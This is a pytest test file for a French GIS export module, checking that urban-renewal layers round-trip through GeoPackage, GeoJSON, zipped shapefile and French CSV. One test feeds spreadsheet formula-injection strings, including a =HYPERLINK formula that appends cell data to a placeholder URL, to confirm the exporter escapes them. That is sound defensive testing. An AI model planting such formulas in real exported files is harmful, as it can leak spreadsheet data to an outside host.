"""Export: each format written by real GDAL/pandas, read back, and round-tripped through import."""

from __future__ import annotations

import csv
import datetime as dt
import json
import zipfile

import geopandas as gpd
import pyogrio
import pytest
import shapely

from ort_geo import open_store
from ort_geo.errors import FormatError
from ort_geo.io import export_layer, import_file, shapefile_names, write_frame

FORMATS = {"gpkg": "s.gpkg", "geojson": "s.geojson", "shp-zip": "s.zip", "csv-fr": "s.csv"}


def _sectors() -> gpd.GeoDataFrame:
    rows = [
        {"id": "centre", "nom": "Cœur de ville – Sainte-Marie", "type": "centre_ville_principal",
         "code_insee": "68298", "deliberation": "DCC 2022-041 du 12/05/2022",
         "date_debut": dt.date(2022, 6, 1), "version": 2, "indicatif": True},
        {"id": "lievre", "nom": "Lièpvre centre", "type": "centre_ville", "code_insee": "68185",
         "deliberation": None, "date_debut": None, "version": 1, "indicatif": False},
    ]
    geoms = [shapely.box(1008000, 6800000, 1008800, 6800600),
             shapely.Polygon([(1015000, 6805000), (1015500, 6805100), (1015200, 6805600)])]
    return gpd.GeoDataFrame(rows, geometry=geoms, crs=2154)


def _buildings() -> gpd.GeoDataFrame:
    rows = [{"id": f"b{i}", "code_insee": "68298", "nb_logements": 4 + i,
             "nb_logements_vacants": i, "etat": "degrade", "habitat_indigne": i == 1,
             "proprietaire_type": "personne physique", "rdc_commerce": True, "rdc_vacant": True,
             "annee_construction": 1890 + i} for i in range(3)]
    geoms = [shapely.box(1008100 + 30 * i, 6800100, 1008120 + 30 * i, 6800115) for i in range(3)]
    return gpd.GeoDataFrame(rows, geometry=geoms, crs=2154)


@pytest.fixture
def filled(store):
    store.write("secteurs_ort", _sectors(), author="test")
    store.write("batiments", _buildings(), author="test")
    actions = gpd.GeoDataFrame(
        [{"id": "a1", "titre": "Réhabilitation des Halles", "orientation": 2, "cout_ht": 125000.5},
         # a text a spreadsheet would run as a formula: guarded in CSV, the same after import
         {"id": "a2", "titre": "=Voie verte", "orientation": 3, "cout_ht": 80000.0}],
        geometry=[shapely.Point(1008400, 6800300),
                  shapely.LineString([(1008000, 6800000), (1009000, 6800500)])], crs=2154)
    store.write("actions", actions, author="test")
    return store


def _records(store, layer):
    return {f.id: f for f in (store.get(layer, i) for i in sorted(store.read(layer)["id"]))}


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("layer", ["secteurs_ort", "batiments", "actions"])
def test_round_trip_through_import(tmp_path, filled, fmt, layer):
    path = export_layer(filled, layer, tmp_path / FORMATS[fmt], fmt)
    copy = open_store(tmp_path / "copie.gpkg", create=True)
    report = import_file(copy, layer, path, author="test")
    assert report.unknown_fields == []
    original, again = _records(filled, layer), _records(copy, layer)
    assert original.keys() == again.keys()
    for fid, feature in original.items():
        assert again[fid].properties == feature.properties, fmt
        # GeoJSON keeps 7 decimals of a degree, the CSV 2 decimals of a metre: about 1 cm.
        assert shapely.hausdorff_distance(again[fid].geometry, feature.geometry) < 0.05


def test_geojson_is_rfc7946(tmp_path, filled):
    path = export_layer(filled, "secteurs_ort", tmp_path / "s.geojson")
    data = json.loads(path.read_text(encoding="utf-8"))
    assert "crs" not in data
    x, y = data["features"][0]["geometry"]["coordinates"][0][0][0]
    assert 7.0 < x < 7.4 and 48.1 < y < 48.4  # lon, lat
    assert len(str(x).split(".")[1]) <= 7
    # RFC 7946: exterior rings counter-clockwise
    ring = shapely.LinearRing(data["features"][0]["geometry"]["coordinates"][0][0])
    assert ring.is_ccw
    assert pyogrio.read_info(path)["crs"] == "EPSG:4326"
    assert data["features"][0]["properties"]["nom"] == "Cœur de ville – Sainte-Marie"


def test_shapefile_zip_names_and_encoding(tmp_path, filled):
    path = export_layer(filled, "batiments", tmp_path / "b.zip")
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
        assert zf.read("batiments.cpg").decode() == "UTF-8"
        legend = zf.read("champs.csv").decode("utf-8-sig")
    assert {"batiments.shp", "batiments.shx", "batiments.dbf", "batiments.prj"} <= set(names)
    assert "nb_logeme1;nb_logements_vacants;Logements vacants" in legend
    info = pyogrio.read_info(f"/vsizip/{path}/batiments.shp")
    assert all(len(f) <= 10 for f in info["fields"])
    assert len(set(info["fields"])) == len(info["fields"])
    assert {"nb_logemen", "nb_logeme1", "annee_cons"} <= set(info["fields"])
    assert info["crs"] == "EPSG:2154"

    sectors = export_layer(filled, "secteurs_ort", tmp_path / "s.zip")
    frame = pyogrio.read_dataframe(f"/vsizip/{sectors}/secteurs_ort.shp")
    assert "Cœur de ville – Sainte-Marie" in set(frame["nom"])
    assert "deliberati" in frame.columns


def test_shapefile_zip_splits_mixed_geometries(tmp_path, filled):
    path = export_layer(filled, "actions", tmp_path / "a.zip")
    with zipfile.ZipFile(path) as zf:
        shps = sorted(n for n in zf.namelist() if n.endswith(".shp"))
    assert shps == ["actions_lignes.shp", "actions_points.shp"]


def test_csv_for_french_spreadsheets(tmp_path, filled):
    path = export_layer(filled, "actions", tmp_path / "a.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the accents
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
    header, first = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert header[0] == "id" and header[-1] == "wkt"
    assert first["cout_ht"] == "125000,5"
    assert first["titre"] == "Réhabilitation des Halles"
    assert first["wkt"] == "POINT (1008400 6800300)"
    sectors = export_layer(filled, "secteurs_ort", tmp_path / "s.csv")
    table = list(csv.DictReader(sectors.read_text(encoding="utf-8-sig").splitlines(),
                                delimiter=";"))
    assert [r["indicatif"] for r in table] == ["oui", "non"]
    assert table[0]["date_debut"] == "2022-06-01"


def test_csv_cells_never_run_as_spreadsheet_formulas(tmp_path):
    """Text starting like a formula (=, +, -, @) is written as text (after an apostrophe), in
    every CSV the tool writes; numbers keep their sign and decimal comma."""
    import pandas as pd

    from ort_geo.io.table import parse_csv
    from ort_geo.io.write import csv_fr

    table = pd.DataFrame({
        "titre": ['=HYPERLINK("http://exemple.invalid/?"&A2;"clic")', "+33 3 89 00 00 00",
                  "-sommaire", "@SUM(A1:A9)", "Halles"],
        "taux": [-1.5, 2.25, None, 0.0, -3.0],
        "mixte": ["secret", -0.5, "< 11", 4, "x"],
    })
    rows = list(csv.reader(csv_fr(table).splitlines(), delimiter=";"))[1:]
    assert [r[0] for r in rows] == ['\'=HYPERLINK("http://exemple.invalid/?"&A2;"clic")',
                                    "'+33 3 89 00 00 00", "'-sommaire", "'@SUM(A1:A9)", "Halles"]
    assert [r[1] for r in rows] == ["-1,5", "2,25", "", "0,0", "-3,0"]
    assert [r[2] for r in rows] == ["secret", "-0,5", "< 11", "4", "x"]
    back = parse_csv(csv_fr(table), ";", "table.csv")  # what a table import reads
    assert back["titre"].tolist() == table["titre"].tolist()


@pytest.mark.parametrize("fmt", FORMATS)
def test_public_export_strips_private_fields(tmp_path, filled, fmt):
    path = export_layer(filled, "batiments", tmp_path / FORMATS[fmt], fmt, public=True)
    if fmt == "shp-zip":
        path = f"/vsizip/{path}/batiments.shp"
        private = set(shapefile_names(filled.spec("batiments").field_names)[n]
                      for n in filled.spec("batiments").private_fields)
    else:
        private = set(filled.spec("batiments").private_fields)
    if fmt == "csv-fr":
        columns = set(path.read_text(encoding="utf-8-sig").splitlines()[0].split(";"))
        text = path.read_text(encoding="utf-8-sig")
    else:
        columns = set(pyogrio.read_info(path)["fields"])
        text = ""
    assert private and not (private & columns)
    assert "nb_logements" in columns or "nb_logemen" in columns
    assert "personne physique" not in text and "degrade" not in text


def test_write_frame_for_other_modules(tmp_path):
    # Statistics and queries export plain frames (no catalogue layer).
    frame = gpd.GeoDataFrame({"secteur": ["centre"], "taux_vacance": [0.125]},
                             geometry=[shapely.box(1008000, 6800000, 1008800, 6800600)], crs=2154)
    path = write_frame(frame, tmp_path / "stats.csv")
    assert "0,125" in path.read_text(encoding="utf-8-sig")
    path = write_frame(frame, tmp_path / "stats.zip", "shp-zip")
    assert pyogrio.read_dataframe(f"/vsizip/{path}/stats.shp")["taux_vacan"][0] == 0.125
    with pytest.raises(FormatError, match="Format d'export inconnu"):
        write_frame(frame, tmp_path / "x.dat", "xlsx")
    with pytest.raises(FormatError, match="précisez le format"):
        write_frame(frame, tmp_path / "x.dat")


def test_cli_export(tmp_path, filled):
    from click.testing import CliRunner

    from ort_geo.cli import main

    out = tmp_path / "public.geojson"
    result = CliRunner().invoke(main, ["export", "batiments", "-o", str(out), "--public",
                                       "--store", filled.url])
    assert result.exit_code == 0, result.output
    assert "3 objet(s) de batiments exporté(s)" in result.output
    props = json.loads(out.read_text())["features"][0]["properties"]
    assert "nb_logements_vacants" not in props and props["nb_logements"] == 4


@pytest.mark.parametrize("fmt", FORMATS)
def test_empty_layer_exports(tmp_path, store, fmt):
    path = export_layer(store, "secteurs_ort", tmp_path / FORMATS[fmt], fmt)
    if fmt == "csv-fr":
        assert path.read_text(encoding="utf-8-sig").splitlines() == [
            ";".join([*store.spec("secteurs_ort").field_names, "wkt"])]
        return
    target = f"/vsizip/{path}/secteurs_ort.shp" if fmt == "shp-zip" else path
    info = pyogrio.read_info(target)
    assert info["features"] == 0
    if fmt != "geojson":  # GeoJSON has no layer-level geometry type
        assert info["geometry_type"] in ("MultiPolygon", "Polygon")  # a shapefile's polygons are multi


@pytest.mark.parametrize("fmt", FORMATS)
def test_reimporting_an_export_creates_no_version(tmp_path, filled, fmt):
    # Shapefile writers rewind rings, GeoJSON and CSV round coordinates: none of it is an edit.
    for layer in ("secteurs_ort", "batiments", "actions"):
        path = export_layer(filled, layer, tmp_path / f"{layer}{FORMATS[fmt][1:]}", fmt)
        summary = import_file(filled, layer, path, author="again").summary
        assert (summary.updated, summary.unchanged) == (0, filled.count(layer)), layer
    assert all(e.author == "test" for e in filled.journal())
    # ...while a real move of 5 cm is one
    moved = _sectors()
    moved.geometry = moved.geometry.translate(0.05, 0)
    assert filled.write("secteurs_ort", moved, author="edit").updated == 2


def test_same_geometry_tolerance_is_not_blind():
    from ort_geo.features import same_geometry

    square = shapely.Polygon([(0, 0), (10, 0), (10, 10), (0, 10)])
    assert same_geometry(square, shapely.Polygon([(0, 0), (0, 10), (10, 10), (10, 0.004)]))
    assert not same_geometry(square, shapely.Polygon([(0, 0), (10, 10), (10, 0), (0, 10)]))
    assert not same_geometry(square, shapely.Polygon([(0, 0), (10, 0), (10, 10), (0, 10.02)]))
    assert not same_geometry(square, square.buffer(0.001))
